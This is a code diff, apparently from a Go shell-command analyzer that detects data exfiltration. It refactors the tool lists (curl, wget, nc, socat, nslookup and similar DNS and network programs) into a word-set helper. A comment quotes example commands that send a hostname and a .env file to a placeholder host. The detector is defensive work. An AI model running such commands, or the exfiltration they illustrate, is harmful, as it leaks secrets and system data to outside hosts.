@@ -11,16 +11,16 @@ import (
 // name, a URL, a header, a body), leaves the machine: nslookup
 // $(cat /etc/hostname).x.example, curl "https://x.example/?d=$(cat .env)".
 
-// netTools are programs whose arguments are sent to another host.
-var netTools = map[string]bool{
-	"curl": true, "curlie": true, "wget": true, "wget2": true, "http": true, "https": true, "xh": true,
-	"xhs": true, "httpie": true, "aria2c": true, "lynx": true, "links": true, "w3m": true, "elinks": true,
-	"lwp-request": true, "nslookup": true, "dig": true, "host": true, "drill": true, "delv": true,
-	"kdig": true, "resolvectl": true, "getent": true, "ping": true, "ping6": true, "fping": true,
-	"hping3": true, "traceroute": true, "traceroute6": true, "tracepath": true, "mtr": true,
-	"whois": true, "nc": true, "ncat": true, "netcat": true, "socat": true, "telnet": true,
-	"ftp": true, "tftp": true, "nmap": true, "arping": true,
-}
+// dnsToolNames look their operands up: the name itself is what leaves.
+const dnsToolNames = `nslookup dig host drill delv kdig resolvectl getent ping ping6 fping traceroute
+	traceroute6 tracepath mtr whois arping`
+
+var (
+	dnsTools = shellsyntax.WordSet(dnsToolNames)
+	// netTools are programs whose arguments are sent to another host.
+	netTools = shellsyntax.WordSet(`curl curlie wget wget2 http https xh xhs httpie aria2c lynx links w3m
+		elinks lwp-request hping3 nc ncat netcat socat telnet ftp tftp nmap ` + dnsToolNames)
+)
 
 var loopbackArg = regexp.MustCompile(`^(\w+://)?(127\.\d+\.\d+\.\d+|localhost|\[::1\])([:/]|$)`)
 
@@ -60,20 +60,10 @@ func (w *walker) socketInput(seg *segment, stdin *data) {
 	if !sockets[seg.name] || stdin == nil || stdin.known() || stdin.shell || stdin.origins&(originOther|originDecode) == 0 {
 		return
 	}
-	if seg.name == "openssl" && !opensslNet(nonDropped(seg.args)) {
-		return
-	}
-	if onlyLoopback(seg) {
+	if seg.name == "openssl" && !opensslNet(nonDropped(seg.args)) || onlyLoopback(seg) {
 		return
 	}
 	w.detected("output_to_network", stdin.origins, seg.text)
-}
-
-// dnsTools look their operands up: the name itself is what leaves.
-var dnsTools = map[string]bool{
-	"nslookup": true, "dig": true, "host": true, "drill": true, "delv": true, "kdig": true,
-	"resolvectl": true, "getent": true, "ping": true, "ping6": true, "fping": true, "traceroute": true,
-	"traceroute6": true, "tracepath": true, "mtr": true, "whois": true, "arping": true,
 }
 
 // addressOpts are curl options whose value names where a request goes.
@@ -161,10 +151,8 @@ func loopbackAddr(v string) bool {
 }
 
 // socatAddr are socat address types followed by host:port.
-var socatAddr = map[string]bool{
-	"TCP": true, "TCP4": true, "TCP6": true, "TCP-CONNECT": true, "UDP": true, "UDP4": true, "UDP6": true,
-	"UDP-SENDTO": true, "SSL": true, "OPENSSL": true, "OPENSSL-CONNECT": true, "SCTP": true, "SCTP-CONNECT": true,
-}
+var socatAddr = shellsyntax.WordSet(`TCP TCP4 TCP6 TCP-CONNECT UDP UDP4 UDP6 UDP-SENDTO SSL OPENSSL
+	OPENSSL-CONNECT SCTP SCTP-CONNECT`)
 
 // isPort is a bare port number (nc HOST PORT).
 func isPort(s string) bool {
